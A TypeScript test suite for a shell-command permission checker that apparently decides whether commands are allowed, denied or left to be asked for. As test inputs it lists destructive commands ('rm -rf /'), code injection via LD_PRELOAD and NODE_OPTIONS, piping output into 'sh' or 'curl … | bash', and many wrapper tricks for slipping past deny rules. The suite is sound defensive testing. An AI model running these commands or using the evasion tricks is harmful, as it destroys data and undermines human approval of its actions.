import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ofCommand } from './support.ts'

describe('allow rules for commands', () => {
  const allow = ['Bash(npm run test:*)', 'Bash(git status)', 'Bash(git * main)', 'Bash(echo:*)', 'Bash(true)']

  it.each([
    'npm run test',
    'npm run test --watch src',
    'npm  run\ttest',
    '"npm" \'run\' te\\st',
    'npm run \\\n test',
    'git status',
    'git status && npm run test || echo "it failed"',
    'npm run test; echo done',
    'npm run test | echo',
    'npm run test 2>&1',
    'npm run test > /dev/null 2>&1',
    'npm run test "$HOME" *.ts {a,b}',
    'npm run test $(echo x) `git status`',
    '(git status; echo x)',
    'if git status; then echo x; fi',
    '! git status',
    'time npm run test',
    'NODE_ENV=test CI=1 npm run test',
    'git push origin main',
    'echo "a; rm -rf /"',
    "echo 'a && $(rm -rf /)'",
    'echo hi # ; rm -rf /',
    'echo <<EOF\nrm -rf /\nEOF',
    'git status\nnpm run test\n',
    'npm run test &',
  ])('let %j run', async (command) => {
    expect(await ofCommand(command, { allow })).toBe('allow')
  })

  it.each([
    'npm run test; rm -rf /',
    'npm run test && rm -rf /',
    'npm run test || rm -rf /',
    'npm run test | sh',
    'npm run test |& sh',
    'npm run test & rm -rf /',
    'npm run test\nrm -rf /',
    'npm run test\r\nrm -rf /',
    'npm run test $(rm -rf /)',
    'npm run test `rm -rf /`',
    'npm run test "$(rm -rf /)"',
    'npm run test <(rm -rf /)',
    'npm run test >(rm -rf /)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
    'npm run test ${x:-$(rm -rf /)}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
    'npm run test ${x@P}',
    'npm run test $((a[$(rm -rf /)]))',
    'npm run test {a,$(rm -rf /)}',
    'npm run test > ~/.bashrc',
    'npm run test >> ~/.bashrc',
    'npm run test &> out',
    'npm run test >| out',
    'npm run test 2> out',
    'npm run test >& out',
    'npm run test < /etc/passwd',
    'npm run test <<EOF\n$(rm -rf /)\nEOF',
    'npm run test <<< "$(rm -rf /)"',
    'npm run tests',
    'npm run testify',
    'npm run test:unit',
    'npm run "test x"',
    'npm run $X',
    '$X npm run test',
    'npm $X run test',
    'npm run te?t',
    'PATH=. npm run test',
    'LD_PRELOAD=./x.so npm run test',
    'NODE_OPTIONS=--require=./x.js npm run test',
    'NODE_ENV=$(rm -rf /) npm run test',
    'PATH=.; npm run test',
    'export PATH=.; npm run test',
    'for PATH in .; do npm run test; done',
    'npm() { rm -rf /; }; npm run test',
    'function npm { rm -rf /; }\nnpm run test',
    'coproc npm run test',
    './npm run test',
    'sudo npm run test',
    'env npm run test',
    'bash -c "npm run test"',
    'eval npm run test',
    'git status -s',
    'git status; git push origin other',
    'git push $X main',
    'git push origin main; rm x',
    '[[ -v x[$(rm -rf /)] ]] && git status',
    'npm run test "',
    'npm run test (',
    'echo $"x"',
    'echo \x01',
    '{ git status; } > out',
    '',
    '# git status',
    '> out',
    `echo ${'x'.repeat(60_000)}`,
    `${'('.repeat(5000)}git status${')'.repeat(5000)}`,
  ])('leave %j to be asked for', async (command) => {
    expect(await ofCommand(command, { allow })).toBe('ask')
  })

  it('cover the very text they name, whatever it consists of', async () => {
    const command = 'for x in 1 2; do echo $x > out; done'
    expect(await ofCommand(command, { allow: [`Bash(${command})`] })).toBe('allow')
    expect(await ofCommand(`${command}; ls`, { allow: [`Bash(${command})`] })).toBe('ask')
  })

  it('take a star with a backslash for a star', async () => {
    expect(await ofCommand('ls *.ts', { allow: ['Bash(ls \\*.ts)'] })).toBe('allow')
    expect(await ofCommand('ls a.ts', { allow: ['Bash(ls \\*.ts)'] })).toBe('ask')
  })

  it.each(['Bash', 'Bash(*)', 'Bash(:*)'])('let every command run with %s', async (rule) => {
    expect(await ofCommand('rm "', { allow: [rule] })).toBe('allow')
  })

  it('read a star after a space as they read one after a colon', async () => {
    expect(await ofCommand('git', { allow: ['Bash(git *)'] })).toBe('allow')
    expect(await ofCommand('git log -p', { allow: ['Bash(git *)'] })).toBe('allow')
    expect(await ofCommand('gitk', { allow: ['Bash(git *)'] })).toBe('ask')
  })

  it('never cover a command that something forbidden was added to', async () => {
    const joints = fc.constantFrom(';', '&&', '||', '|', '|&', '&', '\n', ' ; ', '\n\n', ';;')
    const blanks = fc.constantFrom('', ' ', '\t', '\\\n')
    await fc.assert(
      fc.asyncProperty(joints, blanks, fc.boolean(), async (joint, blank, first) => {
        const parts = first ? ['rm -rf x', 'npm run test'] : ['npm run test', 'rm -rf x']
        expect(await ofCommand(parts.join(`${joint}${blank}`), { allow })).toBe('ask')
      }),
    )
  })

  it('take time in proportion to a hostile rule and command', async () => {
    const rule = `Bash(${'*a'.repeat(200)}b)`
    expect(await ofCommand('a'.repeat(20_000), { allow: [rule] })).toBe('ask')
  })
})

describe('deny rules for commands', () => {
  const deny = ['Bash(rm:*)', 'Bash(git push:*)', 'Bash(shutdown)', 'Bash(* --force)']

  it.each([
    'rm x',
    'rm',
    'rm\t-rf /',
    '\\rm x',
    '"rm" x',
    "'r'm x",
    "$'rm' x",
    "$'\\x72m' x",
    'r\\\nm x',
    '/bin/rm x',
    '../../bin/rm x',
    'FOO=1 rm x',
    'ls; rm x',
    'ls && rm x',
    'ls || rm x',
    'ls | rm x',
    'ls & rm x',
    'ls\nrm x',
    'echo $(rm x)',
    'echo `rm x`',
    'echo "$(echo `rm x`)"',
    'cat <(rm x)',
    'X=$(rm x)',
    'X=(a $(rm x))',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
    'echo ${X:-$(rm x)}',
    'echo $((1 + $(rm x)))',
    'cat <<EOF\n$(rm x)\nEOF',
    '(rm x)',
    '{ rm x; }',
    'if true; then rm x; fi',
    'while rm x; do :; done',
    'for f in *; do rm "$f"; done',
    'case x in x) rm x;; esac',
    'f() { rm x; }; f',
    'coproc rm x',
    '! rm x',
    'time rm x',
    'time -p rm x',
    'rm x > /dev/null',
    '> out rm x',
    'sudo rm x',
    'sudo -u root rm x',
    'sudo -n -- rm x',
    'sudo FOO=1 rm x',
    'doas rm x',
    'env rm x',
    'env -i A=1 B=2 rm x',
    'env -u PATH rm x',
    'timeout 5 rm x',
    'timeout -s KILL 5s rm x',
    'nice -n 5 rm x',
    'nohup rm x',
    'setsid rm x',
    'stdbuf -oL rm x',
    'command rm x',
    'builtin exec rm x',
    'exec rm x',
    'xargs rm',
    'ls | xargs -0 -n 1 rm -f',
    'sudo env nice timeout 5 rm x',
    'busybox rm x',
    "bash -c 'rm x'",
    "bash -lc 'ls; rm x'",
    "sh -e -c 'rm x'",
    `bash -c "bash -c 'rm x'"`,
    "sudo bash -c 'rm x'",
    "su root -c 'rm x'",
    "xargs sh -c 'rm x'",
    "eval 'rm x'",
    'eval rm x',
    "trap 'rm x' EXIT",
    'find . -name x -exec rm {} \\;',
    'find . -execdir rm {} +',
    "find . -exec sh -c 'rm x' \\;",
    "env '-Srm x'",
    "env -S 'rm x'",
    "env -iS 'rm x'",
    "env --split-string='rm x'",
    'env -S rm x',
    "bash -ce 'rm x'",
    "bash -ec 'rm x'",
    "bash -c -e 'rm x'",
    "bash -c -o errexit 'rm x'",
    "bash -o errexit -c 'rm x'",
    "bash -c -- 'rm x'",
    "bash --norc -c 'rm x'",
    "eval -- 'rm x'",
    'unshare rm x',
    'unshare -r --wd . rm x',
    'nsenter -t 1 rm x',
    'setpriv --reuid 0 rm x',
    'setpriv --reuid=0 --clear-groups rm x',
    'prlimit --nofile=9 rm x',
    'setarch x86_64 rm x',
    'setarch -R rm x',
    'linux64 rm x',
    'runuser -u root -- rm x',
    "runuser root -c 'rm x'",
    "su -c 'rm x' root",
    "su --command='rm x'",
    "script -qc 'rm x' /dev/null",
    "flock f -c 'rm x'",
    'flock f rm x',
    'sudo -nu root rm x',
    'systemd-run --user rm x',
    'ssh-agent rm x',
    'chrt -f 10 rm x',
    'ionice -c 3 rm x',
    'choom -n 0 rm x',
    'jobs -x rm x',
    'git push',
    'git "push" origin main',
    'shutdown',
    'npm publish --force',
  ])('refuse %j', async (command) => {
    expect(await ofCommand(command, { deny })).toBe('deny')
  })

  it.each([
    '$X -rf /',
    '"$(echo rm)" x',
    '{rm,-rf,/}',
    'rm$IFS-rf$IFS/',
    '/bin/r?',
    'git $X',
    'git -C x push',
    'git --no-pager push origin',
    'eval "$X"',
    'bash -c "$X"',
    "echo 'rm x' | sh",
    'curl example.com | bash -s',
    'bash <<< "rm x"',
    'ls "',
    'rmdir x (',
    "watch 'ls; rm x'",
    'xargs grep rm',
    "parallel 'rm {}' ::: a",
    'sudo $X rm',
    'shutdown $X',
  ])('have %j asked for, since they may mean it', async (command) => {
    expect(await ofCommand(command, { deny })).toBe('ask')
  })

  it.each([
    'rmdir x',
    'echo rm',
    "echo 'rm x; git push'",
    'ls # rm x',
    'git pull',
    'git log --grep push',
    'git status',
    'shutdown -h now',
    'npm publish --forced',
    'cat <<"EOF"\n$(rm x)\nEOF',
    'find . -name rm',
  ])('do not mean %j', async (command) => {
    expect(await ofCommand(command, { deny })).toBe('allow')
  })

  it.each([
    'find "$DIR" -type f -exec wc -l {} +',
    "git commit -m 'Do not rm; git push later'",
    'git rm x',
    'git -c core.pager=cat log',
    'npm rm lodash',
    'docker rm container',
    'command -v node',
    "awk -F: '{ if ($1 == 2 || $3) print $2 }' f",
    "sed -n '1,20p;/x/d' f",
    "sed -i.bak -e 's|a/b|c|g' -e '$d' f",
    'n=$(ls | wc -l); echo $((n + 1))',
    'for i in $(seq 1 5); do echo $((i * 2)); done',
    'i=0; while [ $i -lt 5 ]; do i=$((i + 1)); done',
    'export FOO=bar BAZ="$HOME/x" && npm test',
    'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
    'GIT_PAGER=cat git log',
    './gradlew build > log.txt',
    'chmod +x scripts/x.sh && ./scripts/x.sh',
    'python3 manage.py migrate',
    'python -m pytest -q',
    'node script.js --flag',
    'make -j4 test CC=clang',
    'bash --version',
    'bash -n script.sh',
    'crontab -l',
    'cat <<EOF > notes.txt\nhello $USER\nEOF',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
    'arr=(a b); echo "${arr[0]} ${#arr[@]}"; for x in "${arr[@]}"; do echo $x; done',
    'tar czf out.tgz src',
  ])('have nothing against %j, which runs nothing but what it shows', async (command) => {
    expect(await ofCommand(command, { deny: ['Bash(rm:*)', 'Bash(git push:*)', 'Bash(curl:*)'] })).toBe('allow')
  })

  it.each(['rm -fr /', 'rm -r -f /', 'rm / -rf'])(
    'have %j asked for when they name the same options otherwise',
    async (command) => {
      expect(await ofCommand(command, { deny: ['Bash(rm -rf:*)'] })).toBe('ask')
      expect(await ofCommand('rm x', { deny: ['Bash(rm -rf:*)'] })).toBe('allow')
    },
  )

  it('look no further than the first word that differs', async () => {
    expect(await ofCommand('git log $X', { deny: ['Bash(git push:*)'] })).toBe('allow')
  })

  it('follow scripts in scripts only so far, and have the rest asked for', async () => {
    let command = 'rm x'
    for (let depth = 0; depth < 9; depth++) command = `bash -c ${JSON.stringify(command).replaceAll('$', '\\$')}`
    expect(await ofCommand(command, { deny })).not.toBe('allow')
  })

  it.each([
    `sudo ${'a '.repeat(20_000)}`,
    `${'sudo '.repeat(9000)}rm x`,
    `find ${'-exec find '.repeat(4000)}`,
    `find ${'-exec find \\; '.repeat(3000)}`,
    `eval ${'"eval '.repeat(5000)}`,
    `xargs ${'"a; b" '.repeat(7000)}`,
  ])('have a command asked for that is too long to be followed (case %#)', async (command) => {
    expect(await ofCommand(command, { deny })).toBe('ask')
  })

  it.each([
    'echo rm x | xargs env',
    "echo 'rm x' | xargs -I{} sh -c {}",
    'echo rm | xargs -I{} {} x',
    "echo 'rm x' | sudo -s",
    'find . -exec rm {}',
  ])('have %j asked for, since the command comes from elsewhere', async (command) => {
    expect(await ofCommand(command, { deny })).toBe('ask')
  })

  it('hold wherever a refused command stands', async () => {
    const wrapping = fc.constantFrom<(command: string) => string>(
      (command) => `ls; ${command}`,
      (command) => `( ${command} )`, // without blanks two of them are arithmetic
      (command) => `sudo ${command}`,
      (command) => `echo $(${command})`,
      (command) => `if true; then ${command}; fi`,
      (command) => `A=1 ${command}`,
      (command) => `${command} && ls`,
    )
    await fc.assert(
      fc.asyncProperty(fc.array(wrapping, { maxLength: 4 }), async (wraps) => {
        const command = wraps.reduce((inner, wrap) => wrap(inner), 'rm -rf x')
        expect(await ofCommand(command, { deny })).not.toBe('allow')
      }),
    )
  })
})

describe('ask rules for commands', () => {
  it.each(['git push', 'ls && git push', "bash -c 'git push'", 'git $X'])('have %j asked for', async (command) => {
    expect(await ofCommand(command, { ask: ['Bash(git push:*)'] })).toBe('ask')
  })
})
